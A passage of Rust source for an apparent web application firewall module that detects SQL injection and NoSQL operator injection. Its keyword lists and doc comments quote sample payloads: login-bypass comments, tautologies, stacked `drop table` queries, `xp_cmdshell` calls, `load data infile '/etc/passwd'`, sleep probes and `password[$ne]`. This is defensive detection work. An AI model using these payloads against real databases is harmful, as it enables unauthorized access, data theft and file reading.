//! SQL evidence in a value, without tokenizing it: what decides whether libinjection is worth
//! running at all, and rules for what libinjection's fingerprints miss.
//!
//! Input: a normalized value (lower-case, blanks folded). Output: whether it has SQL evidence
//! (a keyword of injections or a comment opener), whether a quote in it is followed by what
//! breaks out of a string (`' or`, `')--`, `'; drop`, `'=`…), and confirmations of what
//! libinjection's fingerprints miss: an artifact only attacks use (`xp_cmdshell`, `pg_sleep(`,
//! `information_schema.`, `into outfile`…) next to a breakout character; a literal condition
//! where an injection puts it (`or 1=1--`, `and 2771=1709`, `' or name like '%`); a statement
//! stacked or joined after a quote, a number or a bare `;`; a statement fragment ending in a
//! comment; a time-delay call where SQL has an expression (`(select(sleep(5)))`); a `union
//! select` whose list reads as an injection's (`id union select version(),2`); a whole value
//! that is a MySQL implicit string comparison (`x' or 'y`); and sqlmap's literal probes
//! (`elt(2095=9122,`, `(case when (8718=4315) then`).

use super::classes;
use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use std::sync::OnceLock;

/// Words and marks of injected SQL (normalized: lower-case). The first two, `or` and `and`, only
/// count before what an injected condition starts with (see [`condition_start`]): prose and user
/// agents (`(KHTML, like Gecko)`) have plenty of the bare words. Under 64 patterns, so the
/// automaton gets a SIMD prefilter.
const EVIDENCE: &[&str] = &[
    " or ", " and ", "union", "select", "having", "order by", "group by", "sleep(", "benchmark(", "waitfor", "procedure ",
    "drop ", "insert ", "delete ", "update ", "exec ", "execute ", "declare ", "shutdown", "--", "#", "/*", "@@", "||",
    "&&", ")or", ")and", " xor ", "char(", "concat(", "ascii(", "substr", "cast(", "convert(", "version(", "database(",
    "user(", "extractvalue(", "updatexml(", "if(", "iif(", "elt(", "0x", "case when", " infile",
];

/// What an injected condition after `or`/`and` starts with: a number, a quote, a group, a
/// variable, a negation, or a boolean.
fn condition_start(s: &[u8]) -> bool {
    matches!(s.first(), Some(b'0'..=b'9' | b'\'' | b'"' | b'(' | b'@' | b'!' | b'-')) || s.starts_with(b"not ") || s.starts_with(b"true") || s.starts_with(b"false")
}

/// Artifacts of attacks: function and object names no form text holds.
const ARTIFACTS: &[&str] = &[
    "xp_cmdshell", "xp_regread", "xp_dirtree", "xp_fileexist", "sp_oacreate", "sp_executesql", "sp_password",
    "utl_http.request", "utl_inaddr", "dbms_pipe.receive_message", "dbms_lock.sleep", "pg_sleep(", "waitfor delay '",
    "benchmark(", "load_file(", "into outfile", "into dumpfile", "@@version", "information_schema.", "sysobjects",
    "extractvalue(", "updatexml(", "sysibm.sys", "all_users", "pg_catalog", "mysql.user", "msysaccessobjects",
    "randomblob(", "sqlite_master", "exp(~(", "geometrycollection(", "multipoint(",
];

fn evidence() -> &'static AhoCorasick {
    static E: OnceLock<AhoCorasick> = OnceLock::new();
    E.get_or_init(|| AhoCorasick::builder().match_kind(MatchKind::LeftmostFirst).build(EVIDENCE).expect("static list builds"))
}

fn artifacts() -> &'static AhoCorasick {
    static A: OnceLock<AhoCorasick> = OnceLock::new();
    A.get_or_init(|| AhoCorasick::builder().kind(Some(AhoCorasickKind::DFA)).match_kind(MatchKind::LeftmostFirst).build(ARTIFACTS).expect("static list builds"))
}

/// Whether the normalized value has a keyword or mark of injected SQL.
pub fn has_evidence(norm: &[u8]) -> bool {
    classes::tick(norm.len());
    evidence().find_iter(norm).any(|m| m.pattern().as_usize() > 1 || condition_start(&norm[m.end()..]))
}

/// Where the run of at most 8 bytes of `set` that starts `s[i..]` ends.
fn past(s: &[u8], i: usize, set: impl Fn(u8) -> bool) -> usize {
    i + s[i.min(s.len())..].iter().take(8).take_while(|&&b| set(b)).count()
}

/// Where `s[i..]`'s leading blanks (at most 8) end.
fn past_blanks(s: &[u8], i: usize) -> usize {
    past(s, i, |b| b.is_ascii_whitespace())
}

/// The bytes after `s[i..]`'s blanks, at most 16, lower-cased into `buf`.
fn next_token(s: &[u8], i: usize, buf: &mut [u8; 16]) -> usize {
    let j = past_blanks(s, i);
    let rest = &s[j.min(s.len())..];
    let n = rest.len().min(buf.len());
    for (d, b) in buf.iter_mut().zip(&rest[..n]) {
        *d = b.to_ascii_lowercase();
    }
    n
}

/// Whether only blanks, `-` and `+` follow `s[i]` up to the end of the value or line.
fn comment_ends_line(s: &[u8], i: usize) -> bool {
    s[i.min(s.len())..].iter().take(16).find(|&&b| !matches!(b, b' ' | b'\t' | b'-' | b'+' | b'\r')).is_none_or(|&b| b == b'\n')
}

/// Whether `t` starts a condition (see [`condition_start`]) or a function call (`sleep(`).
fn condition_or_call(t: &[u8]) -> bool {
    let ident = t.iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'_').count();
    condition_start(t) || (ident > 0 && t.get(ident) == Some(&b'('))
}

/// Whether a query, a time delay or a conversion follows the quote at `s[q]` closely: after a
/// literal the value opened (a number's injection, `'x'||(SELECT …`, `'a'=(CASE WHEN …`,
/// `'a' and sleep(5)`) that is what tells SQL from code, whose operators after a string
/// (`'a') || ''`, `'x');\nif (`) are the same (see [`super::quotes`]).
pub fn sql_follows(s: &[u8], q: usize) -> bool {
    const QUERY: &[&[u8]] = &[b"select", b"case", b"union", b"sleep(", b"benchmark(", b"waitfor", b"cast(", b"convert(", b"extractvalue(", b"updatexml("];
    let near = &s[q..s.len().min(q + 24)];
    QUERY.iter().any(|w| classes::contains_ignore_case(near, w))
}

/// Whether the breakout after the quote at `s[q]` (see [`breaks_out`]) is written in SQL's own
/// words: a condition, `union`, `order by`… after a word, a statement after `;`, or a comment.
/// Code and prose after strings of their own write operators there (`'a' || b`, `=== 'x')`) and
/// `;` before an `if`.
pub fn sql_words_after(s: &[u8], q: usize) -> bool {
    let j = past_closers(s, q);
    match s.get(j) {
        Some(b'=' | b'|' | b'&' | b'!' | b'<' | b'>' | b'+') | None => false,
        Some(b';') => {
            let mut t = [0u8; 16];
            let n = next_token(s, j + 1, &mut t);
            STATEMENTS.iter().any(|k| t[..n].starts_with(k))
        }
        Some(_) => true,
    }
}

/// Whether what follows the quote at `s[q]` breaks out of the string: blanks and closers, then a
/// comment, a comparison, a concatenation, a statement end before a statement, or an SQL word
/// used as SQL (`or 1`, `and sleep(`, `union select`, `order by`, `limit 1`…): prose has the
/// words (`" is`, `' and the`) but not what comes after them.
pub fn breaks_out(s: &[u8], q: usize) -> bool {
    classes::tick(48);
    let mut j = past_closers(s, q);
    // A line comment with more lines after it hides only its own line (`x'-- '⏎ or sleep(2)#`).
    for _ in 0..4 {
        let c = if s[j.min(s.len())..].starts_with(b"--") { 2 } else if s.get(j) == Some(&b'#') { 1 } else { break };
        if comment_ends_line(s, j + c) {
            break;
        }
        let Some(k) = memchr::memchr(b'\n', &s[j..]) else { return false };
        j = past_blanks(s, j + k + 1);
    }
    // A cast or a subtraction of a number keeps the parser in the expression, so the breakout is
    // read after it (`x'::text or 2>1--`, `x'-1 or 2>1-- `). Code formats and repeats strings
    // with `%` and `*` (`' % name or ''`), and passwords run on after a digit (`'-6wV`).
    for _ in 0..2 {
        let cast = s[j.min(s.len())..].starts_with(b"::");
        let minus = s.get(j) == Some(&b'-') && s.get(j + 1).is_some_and(u8::is_ascii_digit);
        if !(cast || minus) {
            break;
        }
        let k = j + if cast { 2 } else { 1 };
        let operand = s[k.min(s.len())..].iter().take(32).take_while(|&&b| if cast { b.is_ascii_alphanumeric() || b == b'_' } else { b.is_ascii_digit() }).count();
        if operand == 0 || !(cast || s.get(k + operand).is_none_or(|&b| b.is_ascii_whitespace())) {
            break;
        }
        j = past_blanks(s, k + operand);
    }
    let mut t = [0u8; 16];
    match s.get(j) {
        None => false,
        Some(b'=') => true,
        // A comment that ends the line: `admin'--`, `x'#`, `' -- -`; not `"…"\n-- Author`.
        Some(b'#') => comment_ends_line(s, j + 1),
        Some(b'-') if s[j..].starts_with(b"--") => comment_ends_line(s, j + 2),
        Some(b'|') => s.get(j + 1) == Some(&b'|'),
        Some(b'&') => s.get(j + 1) == Some(&b'&'),
        Some(b'!') => s.get(j + 1) == Some(&b'='),
        Some(b'<' | b'>' | b'+') => {
            let n = next_token(s, j + 1, &mut t);
            matches!(t.first(), Some(b'>' | b'=')) || condition_or_call(&t[..n])
        }
        Some(b'/') => s[j..].starts_with(b"/*"),
        Some(b';') => {
            let n = next_token(s, j + 1, &mut t);
            n == 0 || [&b"--"[..], b"#", b"/*", b"if", b"begin", b"set "].iter().chain(STATEMENTS).any(|k| t[..n].starts_with(k))
        }
        Some(b) if b.is_ascii_alphabetic() => {
            let n = next_token(s, j, &mut t);
            let word_len = t[..n].iter().take_while(|b| b.is_ascii_alphanumeric()).count();
            let mut after = [0u8; 16];
            let m = next_token(s, j + word_len, &mut after);
            let next = &after[..m];
            match &t[..word_len] {
                b"or" | b"and" => condition_or_call(next) || joined_statement(s, j + word_len),
                b"xor" | b"div" | b"like" | b"rlike" | b"regexp" | b"having" => condition_or_call(next),
                b"union" => next.starts_with(b"select") || next.starts_with(b"all") || next.starts_with(b"(") || next.starts_with(b"distinct"),
                b"order" | b"group" => next.starts_with(b"by"),
                b"limit" => next.first().is_some_and(u8::is_ascii_digit),
                b"is" => next.starts_with(b"null") || next.starts_with(b"not"),
                b"in" => next.starts_with(b"("),
                b"between" => condition_start(next),
                b"procedure" => next.starts_with(b"analyse"),
                b"into" => next.starts_with(b"outfile") || next.starts_with(b"dumpfile") || next.starts_with(b"@"),
                b"waitfor" => next.starts_with(b"delay") || next.starts_with(b"time"),
                // T-SQL runs a procedure without a `;` before it: `t'exec master..xp_cmdshell 'x'--`.
                b"exec" | b"execute" => next.first().is_some_and(u8::is_ascii_alphabetic),
                _ => false,
            }
        }
        Some(_) => false,
    }
}

/// Where the closers after the quote at `s[q]` end: blanks, parentheses and quotes.
fn past_closers(s: &[u8], q: usize) -> usize {
    let mut j = q + 1;
    while j < s.len() && j - q < 8 && matches!(s[j], b' ' | b')' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b'`') {
        j += 1;
    }
    j
}

/// Keywords that start an SQL statement of their own.
const STATEMENTS: &[&[u8]] = &[b"select", b"drop", b"insert", b"update", b"delete", b"exec", b"declare", b"shutdown", b"waitfor", b"create", b"alter", b"truncate", b"load"];

/// Whether `s[i..]` (after blanks) is an SQL statement: its keyword and what that keyword takes
/// (`drop table`, `delete from`, `insert into`, `x set`, `select *`, `select … from`,
/// `exec xp_`, `declare @`, `waitfor delay`). Prose has the words ("delete my account; -- John",
/// "update the invoice") but not what SQL puts after them.
fn statement_at(s: &[u8], i: usize) -> bool {
    let mut t = [0u8; 16];
    let n = next_token(s, i, &mut t);
    let Some(k) = STATEMENTS.iter().find(|k| t[..n].starts_with(k) && !t.get(k.len()).is_some_and(u8::is_ascii_alphanumeric)) else { return false };
    let at = past_blanks(s, i) + k.len();
    let mut a = [0u8; 16];
    let m = next_token(s, at, &mut a);
    let next = &a[..m];
    let word = |w: &[u8]| next.starts_with(w) && !next.get(w.len()).is_some_and(u8::is_ascii_alphanumeric);
    const OBJECTS: [&[u8]; 9] = [b"table", b"database", b"schema", b"user", b"view", b"index", b"procedure", b"function", b"trigger"];
    match *k {
        b"select" => {
            matches!(next.first(), Some(b'*' | b'@' | b'0'..=b'9' | b'(' | b'\'' | b'"'))
                || word(b"null")
                || classes::contains(&s[at.min(s.len())..(at + 64).min(s.len())], b" from ")
        }
        b"drop" | b"create" | b"alter" | b"truncate" => OBJECTS.iter().any(|o| word(o)),
        // MySQL reads a server file into a table: `load data [local] infile '/etc/passwd'`.
        b"load" => word(b"data") && classes::contains(&s[at.min(s.len())..(at + 24).min(s.len())], b" infile"),
        b"delete" => word(b"from"),
        b"insert" => word(b"into"),
        b"update" => {
            let ident = next.iter().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'`')).count();
            ident > 0 && ident < m && {
                let mut b = [0u8; 16];
                let l = next_token(s, past_blanks(s, at) + ident, &mut b);
                b[..l].starts_with(b"set ")
            }
        }
        b"exec" => next.starts_with(b"xp_") || next.starts_with(b"sp_") || next.starts_with(b"master") || matches!(next.first(), Some(b'(' | b'@')),
        b"declare" => next.first() == Some(&b'@'),
        b"waitfor" => word(b"delay") || word(b"time"),
        b"shutdown" => m == 0 || matches!(next.first(), Some(b';' | b'-' | b'#')) || word(b"with"),
        _ => false,
    }
}

/// Whether the quote at `s[q]` ends a string, then the statement, and starts another
/// (`'; select *`, `'); drop table t`: stacked queries), or joins one to the condition
/// (`' or select *`, `' and (select …`).
pub fn stacks_statement(s: &[u8], q: usize) -> bool {
    let j = past_closers(s, q);
    match s.get(j) {
        Some(b';') => statement_at(s, j + 1),
        _ => [&b"or"[..], b"and"].iter().any(|w| s[j..].starts_with(w) && joined_statement(s, j + w.len())),
    }
}

/// Whether `s[i..]` (after blanks and groups opened) is a statement an injection joins to a
/// condition: one of [`statement_at`]'s, but a `select` of `*`, a variable, a number, a group or
/// `null` that reads `from` something or ends the value (`' or select *`, `' and (select 1 from
/// t)`). Instructions join the words to quoted labels: "click 'Settings' and select 'Privacy'",
/// "… or select one from the list", "… and select * to export".
fn joined_statement(s: &[u8], i: usize) -> bool {
    let opened = past(s, i, |b| matches!(b, b' ' | b'('));
    if opened == i || !statement_at(s, opened) {
        return false;
    }
    let at = past_blanks(s, opened);
    let Some(list) = s[at..].strip_prefix(b"select") else { return true };
    let list = list.trim_ascii_start();
    let (head, rest) = list.split_at(list.iter().take_while(|b| !matches!(b, b' ' | b',' | b')')).count());
    let named = matches!(head.first(), Some(b'*' | b'@' | b'0'..=b'9' | b'(')) || head == b"null";
    named && (rest.trim_ascii().is_empty() || classes::contains(&rest[..rest.len().min(64)], b" from "))
}

/// A value that ends the statement it was put in, after a number or nothing, and starts another
/// (`1;select 1`, `5); drop table t`, `;insert into t (c) values`): a stacked query.
pub fn number_stacks_statement(norm: &[u8]) -> bool {
    let s = norm.trim_ascii_start();
    let digits = s.iter().take_while(|b| b.is_ascii_digit()).count();
    let j = past(s, digits, |b| matches!(b, b' ' | b')' | b'\'' | b'"'));
    // Empty statements in between change nothing (`;;insert into …`).
    let k = past(s, j, |b| matches!(b, b';' | b' '));
    s.get(j) == Some(&b';') && statement_at(s, k)
}

/// Calls that make the database wait, and what follows their numeric argument.
const DELAYS: &[(&[u8], u8)] = &[(b"sleep", b')'), (b"benchmark", b',')];

/// A call that makes the database wait, with a number for argument (`sleep(5)`, `pg_sleep(5)`,
/// `benchmark(5000000,`), where SQL puts an expression: after `select`, a logic word or a quote
/// (`(select(sleep(5)))`, `' and sleep(5)#`). Time-based blind injection's probe, read only in a
/// value that breaks out or starts like an injection (see `sqli::detect`); code calls it after a
/// `.` or an `await` (`time.sleep(5)`), or alone (`sleep(10);`).
pub fn time_delay(norm: &[u8]) -> bool {
    delay_after(norm, |before, word| matches!(before.last(), Some(b'\'' | b'"' | b'|' | b'&')) || [&b"select"[..], b"and", b"or", b"xor", b"not"].iter().any(|w| word(w)))
}

/// A delay call a query runs wherever the value goes: a subquery's (`(select sleep(5))`) or a
/// condition's branch (`if(1=1,sleep(5),0)`), which an `order by` or column parameter takes
/// without a quote.
pub fn delay_in_query(norm: &[u8]) -> bool {
    // What comes before the construct is one blank-free token at most (`name,(select sleep(5))`,
    // `if(1=1,sleep(5),0)`): a question about one ("My query: SELECT name, (SELECT SLEEP(1))
    // FROM t is slow") has words before it.
    let lead = |construct: &[u8]| !construct.contains(&b' ');
    // A select that opens a group, as a subquery does: "I ran SELECT SLEEP(10)" is a question.
    let subquery = |before: &[u8]| before.strip_suffix(b"select").and_then(|h| h.trim_ascii_end().strip_suffix(b"(")).is_some_and(lead);
    // Oracle's packages are no one's words: `dbms_lock.sleep(5)` inside a PL/SQL block.
    let oracle = |before: &[u8]| before.ends_with(b"dbms_lock.") || before.ends_with(b"dbms_session.");
    // A branch of MySQL's conditionals (`if(`, `elt(`, `make_set(`; also `if (`).
    let branch = |before: &[u8]| {
        let tail = &before[before.len().saturating_sub(64)..];
        before.ends_with(b",")
            && [&b"if("[..], b"if (", b"elt(", b"make_set("].iter().any(|c| classes::find(tail, c).is_some_and(|k| lead(&before[..before.len() - tail.len() + k])))
    };
    delay_after(norm, |before, _| subquery(before) || oracle(before) || branch(before)) || declared_delay(norm)
}

/// T-SQL's delay through a variable, as sqlmap writes it to dodge a quoted time:
/// `declare @x char(9) set @x=0x303a303a35 waitfor delay @x`.
fn declared_delay(norm: &[u8]) -> bool {
    classes::find(norm, b"declare @").is_some_and(|d| classes::contains(&norm[d..], b"waitfor delay @"))
}

/// A call of [`DELAYS`] with a number for argument, where `expression(before, word)` accepts
/// what precedes it (blanks and opened groups taken off; `word` tells whether it ends with a
/// whole word).
fn delay_after(norm: &[u8], expression: impl Fn(&[u8], &dyn Fn(&[u8]) -> bool) -> bool) -> bool {
    classes::tick(norm.len());
    DELAYS.iter().any(|&(name, close)| {
        memchr::memmem::find_iter(norm, name).take(8).any(|at| {
            let open = past_blanks(norm, at + name.len());
            let digits = past_blanks(norm, open + 1);
            let n = norm[digits.min(norm.len())..].iter().take_while(|b| b.is_ascii_digit()).count();
            let call = norm.get(open) == Some(&b'(') && n > 0 && norm.get(past_blanks(norm, digits + n)) == Some(&close);
            // `pg_sleep`'s prefix is part of the name; before it, blanks and groups opened.
            let start = if norm[..at].ends_with(b"pg_") { at - 3 } else { at };
            let before = norm[..start].trim_ascii_end();
            let before = &before[..before.len() - before.iter().rev().take(8).take_while(|&&b| matches!(b, b'(' | b' ')).count()];
            let word = |w: &[u8]| before.ends_with(w) && !before.len().checked_sub(w.len() + 1).is_some_and(|i| before[i].is_ascii_alphanumeric());
            call && expression(before, &word)
        })
    })
}

/// Whether a value starts the way an injection into a number, an identifier list or a
/// statement does: a digit (or a decimal point before one), a sign, a parenthesis, a quote, a
/// variable, a statement keyword, or `and`/`or`/`xor`/`not` before a condition (prose starts
/// with "And he…" too).
pub fn starts_like_injection(norm: &[u8]) -> bool {
    let mut t = [0u8; 16];
    let n = next_token(norm, 0, &mut t);
    let t = &t[..n];
    let word = |k: &[u8]| t.starts_with(k) && !t.get(k.len()).is_some_and(u8::is_ascii_alphanumeric);
    if matches!(t.first(), Some(b'0'..=b'9' | b'-' | b'+' | b'(' | b'@' | b')' | b'\'' | b'"' | b'`' | b';' | b'%'))
        || (t.first() == Some(&b'.') && t.get(1).is_some_and(u8::is_ascii_digit))
    {
        return true;
    }
    if [&b"select"[..], b"union", b"having", b"exec", b"declare", b"drop", b"insert", b"update", b"delete", b"waitfor", b"procedure"].iter().any(|k| word(k))
        || t.starts_with(b"order by")
        || t.starts_with(b"group by")
    {
        return true;
    }
    const LOGIC: [&[u8]; 6] = [b"and", b"or", b"xor", b"not", b"&&", b"||"];
    let Some(k) = LOGIC.iter().find(|k| word(k)) else { return false };
    let mut after = [0u8; 16];
    let m = next_token(norm, norm.iter().position(|b| !b.is_ascii_whitespace()).unwrap_or(0) + k.len(), &mut after);
    condition_or_call(&after[..m])
}

/// Functions injected SQL calls to wait, read files or name the database: a value that opens
/// with one (`sleep(5)#1`, `benchmark(3000000,md5(1))`, `load_file(`) is a payload's tail, or a
/// programmer's line. These wait or read: with a number for argument, a probe (see `hint`).
const PROBING_CALLS: &[&[u8]] = &[b"sleep(", b"pg_sleep(", b"benchmark(", b"load_file(", b"extractvalue(", b"updatexml("];
/// As [`PROBING_CALLS`], but also words of formulas and questions.
const NAMING_CALLS: &[&[u8]] = &[b"database(", b"db_name(", b"version(", b"char(", b"chr(", b"concat(", b"cast(", b"convert("];

/// Longest value in which an attack artifact alone is a hint: code people paste names
/// `sqlite_master` and `information_schema` too, in longer texts.
pub const HINTED: usize = 64;

/// What a WAF stops that is no injection on its own, and rarely text: an attack artifact in a
/// short value (`exec xp_cmdshell`, `information_schema`), a value that opens with a call of
/// [`PROBING_CALLS`] or [`NAMING_CALLS`] (also after `select`) or renames a closed expression before `from`
/// (`) as total from`), a T-SQL `(select top n`. Suspicious: it keeps a denial. Returns
/// (suspicious, probe): a probe, worth a challenge, is the part no one's text or formula has: an
/// artifact, a renamed expression, or a delay or file call whose number ends its argument
/// (`sleep(5)#1`, not `sleep(8 hours)`); the other calls are words of formulas and questions
/// (`CONCAT("Mr. ", {Last Name})`, `CHAR(10)`), and `(select top` is T-SQL people paste.
pub fn hint(norm: &[u8]) -> (bool, bool) {
    classes::tick(norm.len());
    let s = norm.trim_ascii_start();
    let s = s.strip_prefix(b"/").unwrap_or(s);
    let s = s.strip_prefix(b"select ").map_or(s, <[u8]>::trim_ascii_start);
    // What SQL passes a call (a number, a string, a column list, a variable), or nothing yet; not
    // a word (`database(s)`, `sleep(ish)`, `concat(first, last)` in a question).
    let argument = |c: &[u8]| s.get(c.len()).is_none_or(|&b| matches!(b, b'0'..=b'9' | b'\'' | b'"' | b'(' | b')' | b'@' | b'-' | b'*' | b' ' | b'\n'));
    let opens = |calls: &[&'static [u8]]| calls.iter().copied().find(|c| s.starts_with(c) && argument(c));
    // The number ends the argument, and the call ends the value or SQL goes on after it (a
    // comment, a group's end, a statement's): not a file name's copy number (`Benchmark(1).xlsx`),
    // nor a diary's list (`sleep(7), water(2L)`).
    let numeric = |c: &[u8]| {
        let a = &s[c.len()..];
        let digits = a.iter().take(12).take_while(|b| b.is_ascii_digit()).count();
        let ends = |i: usize| matches!(a.get(i), None | Some(b'#' | b'-' | b')' | b';' | b'/'));
        a.is_empty() || (digits > 0 && (a.get(digits) == Some(&b',') || (a.get(digits) == Some(&b')') && ends(digits + 1))))
    };
    // Short values with an artifact that is a name (`xp_cmdshell`, `@@version`); the calls are
    // judged as calls above (`Benchmark(1).xlsx`, GIS text's `MULTIPOINT((10 40), …)`).
    let artifact = norm.len() <= HINTED
        && (artifacts().find_iter(norm).any(|m| !ARTIFACTS[m.pattern().as_usize()].ends_with('(')) || classes::contains(norm, b"information_schema"));
    let probing = opens(PROBING_CALLS);
    let probe = artifact || renamed_before_from(s) || probing.is_some_and(numeric);
    (probe || probing.is_some() || opens(NAMING_CALLS).is_some() || classes::contains(norm, b"(select top "), probe)
}

/// A value that opens by closing an expression, then names it before `from` (`) as total from`,
/// `` ` as `user_id` from``): the middle of a select list. Prose never opens with the `)`
/// ("(twice) as much from").
fn renamed_before_from(s: &[u8]) -> bool {
    let Some(rest) = s.strip_prefix(b")").or_else(|| s.strip_prefix(b"`")).and_then(|r| r.trim_ascii_start().strip_prefix(b"as ")) else { return false };
    let name = rest.iter().take(64).take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'`' | b'"')).count();
    name > 0 && rest[name..].trim_ascii_start().starts_with(b"from")
}

/// A user name, the quote that ends it (and parentheses that close the app's groups), then a comment
/// that drops the rest of the query and nothing after it but a blank, a dash or digits
/// (`admin'--`, `admin'-- -`, `admin'#`, `admin") -- `): the login bypass every list opens with.
/// A password with a quote goes on after its `#` (`ab'#cd9`).
pub fn comment_truncation(norm: &[u8]) -> bool {
    let s = norm.trim_ascii();
    let Some(q) = s.iter().take(65).position(|&b| b == b'\'' || b == b'"') else { return false };
    // A user name or an address: a password's symbols (`x<s>A@:*^'#`) are none.
    if q == 0 || !s[..q].iter().all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'@' | b'-' | b'+')) {
        return false;
    }
    let rest = &s[q + 1..];
    // Groups the app opened, and an empty statement (`admin';--`).
    let rest = rest[rest.iter().take(8).take_while(|&&b| matches!(b, b')' | b';')).count()..].trim_ascii_start();
    let tail = rest.strip_prefix(b"--").or_else(|| rest.strip_prefix(b"#")).or_else(|| rest.strip_prefix(b"/*"));
    tail.is_some_and(|t| t.len() <= 4 && t.iter().all(|&b| matches!(b, b' ' | b'-' | b'0'..=b'9')))
}

/// A MongoDB query operator in a parameter's brackets (`user[$ne]=x`, `pin[$gt]=`, and JSON's
/// `{"password":{"$ne":null}}`, which the body reader writes so): what Express's and PHP's
/// parsers turn into an object that matches any value. Confirmed on a secret (the login
/// bypass: `password[$ne]`) and for `$where`, which runs the client's JavaScript; suspicious elsewhere, as some
/// APIs take filters so (`filters[price][$gt]=10`). Returns (confirmed, suspicious).
pub fn nosql_operator(norm: &[u8]) -> (bool, bool) {
    const OPS: &[&[u8]] = &[
        b"ne", b"gt", b"gte", b"lt", b"lte", b"in", b"nin", b"eq", b"regex", b"where", b"exists", b"or", b"and", b"not", b"expr",
        b"type", b"mod", b"size", b"all", b"elemmatch", b"jsonschema", b"function",
    ];
    // Secrets only, each a whole segment of the parameter's path (or one ending so:
    // `new_password`): filter APIs take operators on users, e-mails, `pinned`, `shipping`, a
    // crypto `token` or a `pass` type (Strapi's `filters[token][$in][0]=ETH`), never on a
    // password, where any operator matches what the attacker does not know.
    const SECRETS: &[&[u8]] = &[b"password", b"passwd", b"pwd", b"passcode", b"passphrase", b"otp", b"secret"];
    // A server-side script's key with no owner (`{"$where": "1==1"}` at the top) reads as the
    // word alone, as a search for it does: a near miss.
    if matches!(norm.trim_ascii(), b"$where" | b"$function") {
        return (false, true);
    }
    let mut found = (false, false);
    for i in memchr::memmem::find_iter(norm, b"[$").take(64) {
        let name = &norm[i + 2..];
        let Some(op) = OPS.iter().find(|op| name.starts_with(op) && name.get(op.len()) == Some(&b']')) else { continue };
        let from = i.saturating_sub(128);
        let path = &norm[norm[from..i].iter().rposition(|&b| matches!(b, b'&' | b'?' | b' ')).map_or(from, |k| from + k + 1)..i];
        let secret = path.split(|&b| matches!(b, b'[' | b']' | b'.')).any(|seg| SECRETS.iter().any(|k| seg.ends_with(k)));
        // An admin's filter compares a secret to known values or asks whether it is set
        // (`filter[password][$exists]=false`, `client_secret[$eq]=…`, `otp[$in]`).
        let lookup = matches!(*op, b"eq" | b"in" | b"exists");
        found = (found.0 || (secret && !lookup) || *op == b"where" || *op == b"function", true);
    }
    found
}

/// An attack artifact next to a character that ends a string or a statement.
pub fn artifact(norm: &[u8]) -> bool {
    classes::tick(norm.len());
    artifacts().is_match(norm)
        && (norm.iter().any(|&b| matches!(b, b'\'' | b'"' | b';' | b')' | b'#'))
            || classes::contains(norm, b"--")
            || classes::contains(norm, b"/*"))
}

/// One operand of a tautology: digits, a word, or a quoted string; returns it and where it ends.
fn operand(s: &[u8], i: usize) -> Option<(&[u8], usize)> {
    match s.get(i)? {
        // The app's query closes the last quote: `' or 'a'='a`.
        &q @ (b'\'' | b'"') => {
            // An unterminated quote runs to the value's end (and nothing follows it).
            let end = classes::find_byte(q, &s[i + 1..]).map_or(s.len(), |k| i + 1 + k);
            Some((&s[i + 1..end], (end + 1).min(s.len())))
        }
        b if b.is_ascii_alphanumeric() => {
            let n = s[i..].iter().take(16).take_while(|b| b.is_ascii_alphanumeric()).count();
            Some((&s[i..i + n], i + n))
        }
        _ => None,
    }
}

/// Calls whose first argument sqlmap's boolean and error probes fill with a comparison of two
/// number literals; `case when` is the branch it fills the same way.
const PROBE_CALLS: &[&[u8]] = &[b"elt"];
/// The same calls in spreadsheets too (`=IF(1>=2,…)`, Access's `IIF`): they count only in a
/// value that breaks out or starts like an injection (see `sqli::detect`).
const SPREADSHEET_CALLS: &[&[u8]] = &[b"iif", b"if"];

/// A comparison of two number literals (each maybe `binary`) as the condition of `elt(`, `iif(`,
/// `if(` or a `case when … then` (`elt(2095=9122,`, `iif(1214 like 5153,`, `case when (8718=4315)
/// then`): the probes a blind injection asks the database, which only SQL writes. Code and
/// spreadsheets compare names there (`if (x == 1)`, `case when status = 'x'`, `=IF(A1=2,…)`).
pub fn literal_probe(norm: &[u8], spreadsheet_calls: bool) -> bool {
    classes::tick(norm.len());
    const OPS: &[&[u8]] = &[
        b"<=>", b">=", b"<=", b"<>", b"!=", b"=", b"<", b">", b"not like ", b"like ", b"not rlike ", b"rlike ", b"not regexp ", b"regexp ",
        b"between ", b"not in", b"in",
    ];
    // A number literal (maybe `binary`, negative, decimal, hex, in parentheses): where it ends.
    let number = |i: usize| -> Option<usize> {
        let mut i = past(norm, i, |b| matches!(b, b' ' | b'('));
        if classes::starts_word(norm, i, b"binary") {
            i = past_blanks(norm, i + 6);
        }
        i += usize::from(norm.get(i) == Some(&b'-'));
        let hex = norm[i.min(norm.len())..].starts_with(b"0x");
        let digits = norm[(i + 2 * usize::from(hex)).min(norm.len())..].iter().take(20).take_while(|b| if hex { b.is_ascii_hexdigit() } else { b.is_ascii_digit() || **b == b'.' }).count();
        (digits > 0).then(|| past(norm, i + 2 * usize::from(hex) + digits, |b| b == b')'))
    };
    // `n op m` (`n between m and k`, `n in (m, …)`), then what ends the condition: a call's
    // `,`, a branch's `then`.
    let condition = |i: usize, call: bool| {
        let Some(a) = number(i) else { return false };
        let j = past_blanks(norm, a);
        let Some(op) = OPS.iter().find(|op| norm[j.min(norm.len())..].starts_with(op)) else { return false };
        let Some(mut end) = number(past_blanks(norm, j + op.len())) else { return false };
        if *op == b"between " {
            let k = past_blanks(norm, end);
            let Some(e) = classes::starts_word(norm, k, b"and").then(|| number(k + 3)).flatten() else { return false };
            end = e;
        }
        let end = past(norm, end, |c| matches!(c, b' ' | b')' | b','));
        let tail = &norm[end.min(norm.len())..];
        if call { norm[..end.min(norm.len())].ends_with(b",") || tail.starts_with(b",") } else { tail.starts_with(b"then") }
    };
    let calls = memchr::memchr_iter(b'(', norm).take(16).any(|open| {
        let name = norm[..open].trim_ascii_end();
        let spreadsheet: &[&[u8]] = if spreadsheet_calls { SPREADSHEET_CALLS } else { &[] };
        PROBE_CALLS.iter().chain(spreadsheet).any(|c| name.ends_with(c) && !name[..name.len() - c.len()].last().is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_'))
            && condition(open + 1, true)
    });
    calls || memchr::memmem::find_iter(norm, b"case").take(8).any(|at| {
        let when = past_all(norm, at + 4, |b| b.is_ascii_whitespace());
        when > at + 4 && classes::starts_word(norm, when, b"when") && condition(when + 4, false)
